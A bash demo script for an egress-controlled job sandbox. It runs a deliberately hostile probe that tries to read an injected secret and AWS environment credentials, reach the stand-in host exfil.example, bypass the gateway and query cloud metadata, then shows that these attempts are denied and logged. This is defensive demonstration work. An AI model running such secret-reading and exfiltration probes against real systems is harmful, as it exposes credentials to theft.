#!/usr/bin/env bash
# demo.sh: one job of org acme through the compose stack, end to end.
#
# Brings the stack up (up.sh: images, host Postgres, every service), runs
# the hostile probe job once in its task (sidecar + job in one network
# namespace on the internal network, only the gateway on both), shows
# what happened (allowed and denied egress, what the fake internet
# received, the job's scrubbed output, the usage and audit rows), and
# tears it all down (down.sh), also on failure or Ctrl-C.
#
# Usage: deploy/compose/demo.sh   (a candidate for `make demo`)
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
export COMPOSE_PROJECT_NAME=${COMPOSE_PROJECT_NAME:-cordondemo$$}
export CORDON_RUN_DIR=${CORDON_RUN_DIR:-$(mktemp -d /tmp/cordon-demo-stack.XXXXXX)}
export CORDON_RUN_ID=${CORDON_RUN_ID:-demo-run-1}
export CORDON_SECRETS_JSON='{"monad_rpc_key":"rpc-key-DEMO-7Qx2wZ","db_password":"db-pass-DEMO-9Kf4vB"}'
cleanup() {
	echo
	echo "== tearing the stack down"
	"$here/down.sh" >/dev/null 2>&1 || true
}
trap cleanup EXIT
bold() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

bold "1. The stack: internal network (no route out), gateway on both networks"
"$here/up.sh" | tail -1
cd "$here"
docker-compose ps

bold "2. Waiting for the sidecar to be healthy and hold its first policy"
for _ in $(seq 240); do
	if docker-compose logs --no-color sidecar 2>/dev/null | grep -q "xds policy applied"; then
		break
	fi
	sleep 0.25
done
docker-compose logs --no-color sidecar | grep -q "xds policy applied" || {
	echo "demo: the sidecar got no policy within 60s" >&2
	docker-compose logs --no-color --tail 30 >&2
	exit 1
}
echo ok

bold "3. The job (cordon-probe under the shim), its output as docker logs shows it"
echo "secrets given: monad_rpc_key=rpc-key-DEMO-7Qx2wZ db_password=db-pass-DEMO-9Kf4vB"
docker-compose run -T --rm --no-deps job /usr/local/bin/cordon-probe --timeout 2s \
	secret=MONAD_RPC_KEY aws-env \
	http=http://rpc.monad.example:8545/allowed \
	http=http://exfil.example:8545/denied \
	direct=http://rpc.monad.example:8545/direct \
	metadata

bold "4. What reached the internet (fake-internet's log)"
docker-compose logs --no-color fake-internet | grep '"path"' || echo "(nothing)"

bold "5. The dispatcher's rows in Postgres"
sleep 3 # the sidecar delivers its final report right after the job
psql_bin=$(command -v psql || ls /usr/lib/postgresql/*/bin/psql | sort -V | tail -1)
as_pg=()
if [ "$(id -u)" = 0 ]; then as_pg=(runuser -u postgres --); fi
"${as_pg[@]}" "$psql_bin" -h "$CORDON_RUN_DIR/postgres" -U postgres cordon -P pager=off \
	-c "SELECT org_id, job_id, run_id, final, exit_code, denials, redactions, egress FROM usage_reports ORDER BY received_at" \
	-c "SELECT org_id, event_type, resource_id, result, left(metadata::text, 90) AS metadata FROM audit_events ORDER BY ts, seq"
